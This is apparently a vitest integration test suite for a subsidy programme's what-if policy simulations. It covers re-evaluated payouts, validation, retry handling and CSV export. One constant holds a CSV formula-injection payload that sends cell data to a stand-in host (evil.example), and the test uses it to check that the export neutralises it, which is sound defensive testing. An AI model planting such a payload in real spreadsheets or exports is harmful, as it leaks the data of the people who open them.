/**
 * What-if simulations (SPEC §12) against DynamoDB Local and the real simulation queue: stored
 * decisions, made by the real write path, are judged again under a draft with the history each
 * was decided with; the result per programme; a bad draft is a 400 naming the parameter; nothing
 * stored changes; pages are counted once even when messages are received twice. The result as
 * CSV, downloaded through its URL from the local S3 server: byte-order mark, headers in the
 * language the simulation was asked in, a hostile organisation name neutralised, the figures the
 * JSON result's; a completion run again writes the same bytes.
 */
import { UpdateCommand } from '@aws-sdk/lib-dynamodb';
import { parse } from 'csv-parse/sync';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { clock } from '../../functions/commons/runtime/clock.js';
import { SIMULATION_PAGE_SIZE } from '../../functions/commons/simulations/model.js';
import { completeIfSettled } from '../../functions/commons/simulations/completion.js';
import { simulating } from '../../functions/commons/simulations/simulate.js';
import { simulationKey } from '../../functions/commons/store/items/keys.js';
import { handler as simulationWorker } from '../../functions/simulation-worker/handler.js';
import { localAws, localS3, publishedEvents, relayOutbox } from '../support/emulators/env.js';
import { adminApiWith, handler as adminApi } from '../../functions/admin-api/handler.js';
import { admin, applicant, caller, httpEvent, invoke } from '../support/http-events.js';
import { tableItems } from '../support/local-api.js';
import { adminApiDepsOf } from '../support/function-deps.js';
import { REPORT_BUCKET } from '../../shared/contract/resources.js';
import { drainQueue } from '../payout/queue-driver.js';
import {
  body,
  certify,
  doc,
  newApplicantId,
  seedAward,
  sqs,
  submitAndEvaluate,
  tableName,
} from '../write-path/write-path.js';

const call = { start: caller(adminApi), get: caller(adminApi) };
const simulationQueueUrl = localAws().env.SIMULATION_QUEUE_URL!;
const realNow = clock.now;
afterEach(() => {
  clock.now = realNow;
  simulating.pageSize = SIMULATION_PAGE_SIZE;
});

const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';

/** The answer, and the request's id: the simulation's correlation id. */
async function start(payload: unknown, as = admin(), language = 'en', api = adminApi) {
  const request = httpEvent('POST /v1/admin/simulations', {
    as,
    body: payload,
    headers: { 'accept-language': language },
  });
  return { ...(await invoke(api, request)), requestId: request.requestContext.requestId };
}
const read = (id: string, as = admin()) => call.get('GET /v1/admin/simulations/{id}', { as, path: { id } });
const drain = (options: { acknowledge?: (records: unknown[]) => boolean } = {}) =>
  drainQueue({ sqs, queueUrl: simulationQueueUrl, handler: simulationWorker, concurrency: 3, ...options });

/** Everything stored except what simulations themselves write in their own partitions. */
const storedRecords = async () =>
  (await tableItems(doc, tableName)).filter((item) => !String(item.pk).startsWith('SIMULATION#'));

async function simulate(payload: Record<string, unknown>, language = 'en') {
  const started = await start(payload, admin(), language);
  expect(started.status, JSON.stringify(started.body)).toBe(202);
  expect(started.headers?.location).toBe(`/v1/admin/simulations/${started.body.simulationId}`);
  await drain();
  const done = await read(started.body.simulationId);
  expect(done.status).toBe(200);
  expect(done.body.status).toBe('COMPLETED');
  return { ...done.body, requestId: started.requestId };
}

const at = (instant: string) => () => new Date(instant);
const platforms = { small: newApplicantId(), large: newApplicantId(), twice: newApplicantId(), rnd: newApplicantId() };
const ids: Record<string, string> = {};

/** The result file as downloaded through the simulation's URL: its bytes and its rows. */
async function resultFile(simulation: { download?: { url: string; expiresAt: string } }) {
  expect(simulation.download, 'a completed simulation has a download').toBeDefined();
  const response = await fetch(simulation.download!.url);
  expect(response.status).toBe(200);
  const bytes = Buffer.from(await response.arrayBuffer());
  return { response, bytes, rows: parse(bytes, { bom: true }) as string[][] };
}

afterAll(async () => (await localS3()).stop());

beforeAll(async () => {
  await localS3();
  for (const platform of Object.values(platforms)) await certify(platform);
  // Earlier R&D awards leave 500,000.00 of the platform's 30,000,000.00 cap.
  await seedAward(platforms.rnd, 'OSP_RND', '29500000.00', { awardedAt: '2021-02-01T00:00:00.000Z' });
  const operating = (costs: string) => body('OSP_OPERATING', { fiscalYear: 2021, operatingCosts: costs });
  const decide = async (name: string, applicantId: string, payload: unknown, instant: string) => {
    clock.now = at(instant);
    ids[name] = (await submitAndEvaluate(applicantId, payload)).applicationId;
  };
  const hostile = {
    ...operating('2000000.00'),
    organisation: { ...body('OSP_OPERATING').organisation, name: HOSTILE_NAME },
  };
  await decide('small', platforms.small, hostile, '2022-03-10T02:00:00.000Z');
  await decide('large', platforms.large, operating('9000000.00'), '2022-03-11T02:00:00.000Z');
  // The second claim of the year had 400,000.00 of the yearly cap left when it was decided.
  await decide('first', platforms.twice, operating('6000000.00'), '2022-03-12T02:00:00.000Z');
  await decide('second', platforms.twice, operating('5000000.00'), '2022-03-13T02:00:00.000Z');
  await decide('rnd', platforms.rnd, body('OSP_RND', { rndCosts: '3000000.00' }), '2022-03-14T02:00:00.000Z');
  await decide('activity', newApplicantId(), body('AI_ACTIVITY'), '2022-03-15T02:00:00.000Z');
  clock.now = realNow;
}, 120_000);

const resultOf = (simulation: { result: Array<{ programme: string }> }, programme: string) =>
  simulation.result.find((entry) => entry.programme === programme) as Record<string, any>;

describe('a what-if simulation', () => {
  it('judges the stored decisions again under the draft, each with the history it was decided with, and changes nothing stored', async () => {
    simulating.pageSize = 2; // several pages per part
    const before = await storedRecords();
    const simulation = await simulate({
      overrides: { ospOperatingRate: '15%' },
      programmes: ['OSP_OPERATING', 'OSP_RND'],
      submittedFrom: '2022-03-10',
      submittedTo: '2022-03-14',
    });
    expect(await storedRecords()).toEqual(before);

    const operating = resultOf(simulation, 'OSP_OPERATING');
    // small 200,000 → 300,000; large 900,000 → 1,000,000 (the yearly cap); first 600,000 → 900,000;
    // second stays 400,000: the cap's remainder after the first claim's stored award, as when it was decided.
    expect(operating).toMatchObject({
      cases: 4,
      changedOutcomes: 0,
      changedAmounts: 3,
      totalBefore: '2100000.00',
      totalAfter: '2600000.00',
      difference: '500000.00',
    });
    expect(
      operating.largestChanges.map((change: Record<string, string>) => [change.applicationId, change.difference]),
    ).toEqual([
      [ids.first, '300000.00'],
      ...[
        [ids.large, '100000.00'],
        [ids.small, '100000.00'],
      ].sort((a, b) => (a[0]! < b[0]! ? -1 : 1)),
    ]);
    expect(operating.largestChanges[0]).toMatchObject({
      applicantId: platforms.twice,
      outcomeBefore: 'ELIGIBLE',
      outcomeAfter: 'ELIGIBLE',
      amountBefore: '600000.00',
      amountAfter: '900000.00',
    });
    // The R&D claim keeps its 500,000.00: the earlier awards are in its history.
    expect(resultOf(simulation, 'OSP_RND')).toMatchObject({
      cases: 1,
      changedAmounts: 0,
      totalBefore: '500000.00',
      totalAfter: '500000.00',
      difference: '0.00',
      largestChanges: [],
    });
    expect(simulation.result.map((entry: { programme: string }) => entry.programme)).toEqual([
      'OSP_OPERATING',
      'OSP_RND',
    ]);
    expect(simulation.progress).toEqual({ cases: 5, partsDone: 32, parts: 32 });

    await relayOutbox(localAws().resources);
    const events = (await publishedEvents(localAws().resources, { type: 'SimulationCompleted' })).filter(
      (event) => event.detail.simulationId === simulation.simulationId,
    );
    expect(events).toHaveLength(1);
    // It names the request that started the simulation, as the payout run's events name theirs.
    expect(events[0]!.detail.correlationId).toBe(simulation.requestId);
    expect((events[0]!.detail as { programmes: unknown[] }).programmes[0]).toMatchObject({
      programme: 'OSP_OPERATING',
      difference: '500000.00',
    });
  });

  it('with no change to the policy, finds every stored decision again, counting each page once though messages are received twice', async () => {
    simulating.pageSize = 1;
    let batches = 0;
    const started = await start({ overrides: {} });
    // Every third batch is handled but not acknowledged: received again, as after a crash.
    await drain({ acknowledge: () => ++batches % 3 !== 0 });
    const simulation = (await read(started.body.simulationId)).body;
    expect(simulation.status).toBe('COMPLETED');
    const decided = simulation.result.reduce((sum: number, entry: { cases: number }) => sum + entry.cases, 0);
    expect(decided).toBe(6);
    expect(simulation.progress.cases).toBe(6);
    for (const entry of simulation.result) {
      expect(entry, entry.programme).toMatchObject({ changedOutcomes: 0, changedAmounts: 0, difference: '0.00' });
      expect(entry.totalAfter).toBe(entry.totalBefore);
    }
    expect(resultOf(simulation, 'AI_ACTIVITY')).toMatchObject({ cases: 1, totalBefore: '300000.00' });
  });

  it('refuses an unknown parameter, a value in another unit or out of range, naming it, and stores nothing', async () => {
    const before = await tableItems(doc, tableName);
    const refused: Array<[unknown, string]> = [
      [{ overrides: { ospOperatingRatio: '15%' } }, 'overrides.ospOperatingRatio'],
      [{ overrides: { ospOperatingRate: 15 } }, 'overrides.ospOperatingRate'],
      [{ overrides: { ospOperatingRate: '150%' } }, 'overrides.ospOperatingRate'],
      [{ overrides: { ospOperatingAnnualCap: '-1.00' } }, 'overrides.ospOperatingAnnualCap'],
      [{ overrides: { appealWindowDays: 0 } }, 'overrides.appealWindowDays'],
      [{}, 'overrides'],
      [{ overrides: {}, policyVersion: 'LG-AI-1999' }, 'policyVersion'],
      [{ overrides: {}, programmes: ['OSP_RND', 'OSP_RND'] }, 'programmes'],
      [{ overrides: {}, programmes: ['TAX'] }, 'programmes.0'],
      [{ overrides: {}, submittedFrom: '2022-03-10', submittedTo: '2022-03-09' }, 'submittedTo'],
      [{ overrides: {}, limit: 3 }, 'limit'],
    ];
    for (const [payload, path] of refused) {
      const response = await start(payload);
      expect(response.status, JSON.stringify(payload)).toBe(400);
      expect(
        response.body.errors.map((error: { path: string }) => error.path),
        JSON.stringify(payload),
      ).toContain(path);
    }
    const chinese = await call.start('POST /v1/admin/simulations', {
      as: admin(),
      body: { overrides: { ospOperatingRate: '15' } },
      headers: { 'accept-language': 'zh-CN' },
    });
    expect(chinese.body.errors).toEqual([
      { path: 'overrides.ospOperatingRate', message: '应为0.01%至100%之间的百分比，最多两位小数，例如“15%”' },
    ]);
    expect(await tableItems(doc, tableName)).toEqual(before);
  });

  it('is recorded FAILED at once, answered 202 saying so, when its messages cannot be queued: never RUNNING forever', async () => {
    // The real local SQS server refuses the send: the queue the API is composed on does not exist.
    const outage = adminApiWith({
      ...adminApiDepsOf(localAws().resources),
      simulationQueue: `${simulationQueueUrl}-gone`,
    });
    const started = await start({ overrides: {} }, admin(), 'en', outage);
    expect(started.status).toBe(202);
    expect(started.body.status).toBe('FAILED');
    const simulation = (await read(started.body.simulationId)).body;
    expect(simulation).toMatchObject({ status: 'FAILED', completedAt: expect.any(String) });
    expect(simulation.result).toBeUndefined();
    expect(simulation.download).toBeUndefined();
  });

  it('answers 403 to a non-admin and 404 to an unknown or malformed id', async () => {
    expect((await start({ overrides: {} }, applicant('someone'))).status).toBe(403);
    expect((await read('00000000-0000-4000-8000-000000000000')).status).toBe(404);
    expect((await read('not-a-uuid')).status).toBe(404);
    expect((await read('00000000-0000-4000-8000-000000000000', applicant('someone'))).status).toBe(403);
  });
});

describe('the result as CSV', () => {
  const window = { submittedFrom: '2022-03-10', submittedTo: '2022-03-14' };
  const draft = { overrides: { ospOperatingRate: '15%' }, programmes: ['OSP_OPERATING', 'OSP_RND'], ...window };

  it('is downloadable through its URL: byte-order mark, the JSON result line by line, a hostile name neutralised; a completion run again writes the same bytes', async () => {
    const simulation = await simulate(draft);
    const { response, bytes, rows } = await resultFile(simulation);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="simulation-${simulation.simulationId}.csv"`,
    );
    const [header, ...lines] = rows;
    expect(header).toEqual([
      'Programme',
      'Line',
      'Cases',
      'Changed outcomes',
      'Changed amounts',
      'Application',
      'Applicant',
      'Organisation',
      'Unified Social Credit Code',
      'Outcome decided',
      'Outcome under the draft',
      'Amount decided (yuan)',
      'Amount under the draft (yuan)',
      'Difference (yuan)',
    ]);
    const column = (name: string) => header!.indexOf(name);
    const totals = lines.filter((line) => line[column('Line')] === 'Total');
    expect(totals.map((line) => line[column('Programme')])).toEqual([
      'Open-source platform operating-cost subsidy',
      'Open-source platform R&D subsidy',
    ]);
    simulation.result.forEach((entry: Record<string, any>, i: number) => {
      const line = totals[i]!;
      expect(
        ['Cases', 'Changed outcomes', 'Changed amounts'].map((name) => Number(line[column(name)])),
        entry.programme,
      ).toEqual([entry.cases, entry.changedOutcomes, entry.changedAmounts]);
      expect(
        ['Amount decided (yuan)', 'Amount under the draft (yuan)', 'Difference (yuan)'].map(
          (name) => line[column(name)],
        ),
        entry.programme,
      ).toEqual([entry.totalBefore, entry.totalAfter, entry.difference]);
    });
    // Each programme's total line, then its largest changes in the result's order.
    const operating = resultOf(simulation, 'OSP_OPERATING');
    const changes = lines.slice(1, 1 + operating.largestChanges.length);
    expect(lines).toHaveLength(simulation.result.length + operating.largestChanges.length);
    expect(
      changes.map((line) =>
        [
          'Line',
          'Application',
          'Applicant',
          'Outcome decided',
          'Outcome under the draft',
          'Amount decided (yuan)',
          'Amount under the draft (yuan)',
          'Difference (yuan)',
        ].map((name) => line[column(name)]),
      ),
    ).toEqual(
      operating.largestChanges.map((change: Record<string, string>) => [
        'Change',
        change.applicationId,
        change.applicantId,
        'Eligible',
        'Eligible',
        change.amountBefore,
        change.amountAfter,
        change.difference,
      ]),
    );
    const organisations = changes.map((line) => line[column('Organisation')]);
    expect(organisations).toContain(`'${HOSTILE_NAME}`);
    expect(organisations).not.toContain(HOSTILE_NAME);

    // Redelivered: the completion runs again (as after a crash between the file and the record).
    await doc.send(
      new UpdateCommand({
        TableName: tableName,
        Key: simulationKey(simulation.simulationId),
        UpdateExpression: 'SET #status = :running',
        ExpressionAttributeNames: { '#status': 'status' },
        ExpressionAttributeValues: { ':running': 'RUNNING' },
      }),
    );
    await completeIfSettled(
      { table: tableName, reportBucket: localAws().resources.buckets[REPORT_BUCKET.id]! },
      simulation.simulationId,
    );
    const again = (await read(simulation.simulationId)).body;
    expect(again.status).toBe('COMPLETED');
    expect((await resultFile(again)).bytes.equals(bytes)).toBe(true);
  });

  it('has its headers and words in Chinese when the simulation was asked for in Chinese', async () => {
    const simulation = await simulate(draft, 'zh-CN');
    const [header, ...lines] = (await resultFile(simulation)).rows;
    expect(header).toEqual([
      '支持项目',
      '行',
      '测算件数',
      '结果改变件数',
      '金额改变件数',
      '申报编号',
      '申报单位账号',
      '申报单位',
      '统一社会信用代码',
      '原决定结果',
      '按草案测算结果',
      '原决定金额（元）',
      '按草案测算金额（元）',
      '差额（元）',
    ]);
    expect(lines[0]!.slice(0, 2)).toEqual(['深度学习开源平台运营费用补贴', '合计']);
    expect(lines[0]!.slice(-3)).toEqual([
      resultOf(simulation, 'OSP_OPERATING').totalBefore,
      resultOf(simulation, 'OSP_OPERATING').totalAfter,
      resultOf(simulation, 'OSP_OPERATING').difference,
    ]);
    expect(lines[1]!.slice(0, 2)).toEqual(['深度学习开源平台运营费用补贴', '变化']);
    expect(lines[1]!.slice(9, 11)).toEqual(['符合条件', '符合条件']);
  });
});
